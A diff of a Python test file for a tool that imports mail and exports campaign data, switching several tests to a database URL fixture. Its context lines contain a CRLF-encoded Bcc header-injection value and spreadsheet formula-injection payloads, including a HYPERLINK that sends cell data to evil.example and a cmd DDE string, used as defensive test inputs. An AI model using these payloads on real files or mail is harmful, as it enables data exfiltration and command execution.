@@ -26,7 +26,7 @@ EVIL_FROM = "=?utf-8?q?Evil=0D=0ABcc=3A_x=40evil=2Eexample?= <a@b.example>"
 
 
 def test_one_unreadable_mail_goes_to_review_and_the_rest_of_the_mbox_comes_in(
-    runner, tmp_path: Path
+    runner, tmp_path: Path, db_url: str
 ) -> None:
     box = mailbox.mbox(tmp_path / "teh.mbox")
     box.add(mail(filled_form("nl", {"PIN-BLUEHEART": "10"}), message_id="<one@example.org>"))
@@ -36,7 +36,7 @@ def test_one_unreadable_mail_goes_to_review_and_the_rest_of_the_mbox_comes_in(
         line for line in headers.split(b"\n") if not line.startswith(b"From:")) + b"\n\n" + body)
     box.add(mail(filled_form("de", {"PIN-BLUEHEART": "30"}), message_id="<three@example.org>"))
     box.close()
-    db = str(tmp_path / "orders.db")
+    db = db_url
     args = ["orders", "import", C, str(tmp_path / "teh.mbox"), "--db", db]
     result = runner.invoke(app, args)
     assert result.exit_code == 0, result.output
@@ -57,9 +57,9 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Stadhuis")', "+cmd|' /C c
 
 
 def test_texts_that_are_formulas_come_out_of_every_export_as_text(
-    runner, write_campaign, tmp_path: Path
+    runner, write_campaign, tmp_path: Path, db_url: str
 ) -> None:
-    db = str(tmp_path / "state.db")
+    db = db_url
     for code, building in zip(["34022", "62063", "63023", "11002"], FORMULAS, strict=True):
         recorded = runner.invoke(app, ["lighting", "record", C, code, "--accepted", "--building",
                                        building, "--db", db])
@@ -151,7 +151,9 @@ def _workbook(path: Path, rows: list[list[object]]) -> Path:
     return path
 
 
-def test_contacts_replies_and_orders_may_be_excel_workbooks(runner, tmp_path: Path) -> None:
+def test_contacts_replies_and_orders_may_be_excel_workbooks(
+    runner, tmp_path: Path, db_url: str
+) -> None:
     contacts = _workbook(tmp_path / "contacts.xlsx", [
         CONTACTS_HEADER.strip().split(";"),
         [34022, "Kortrijk", "stad@kortrijk.example.org", "College", "Grote Markt 54", 8500,
@@ -160,7 +162,7 @@ def test_contacts_replies_and_orders_may_be_excel_workbooks(runner, tmp_path: Pa
     ])
     checked = runner.invoke(app, ["municipalities", "contacts", str(contacts)])
     assert checked.exit_code == 0 and "Kortrijk" in checked.output and "Liège" in checked.output
-    db = str(tmp_path / "state.db")
+    db = db_url
     replies = _workbook(tmp_path / "replies.xlsx", [
         ["refnis", "status", "building", "from", "until", "reason"],
         [34022, "ja", "Belfort", dt.time(21, 0), dt.time(1, 0), None],
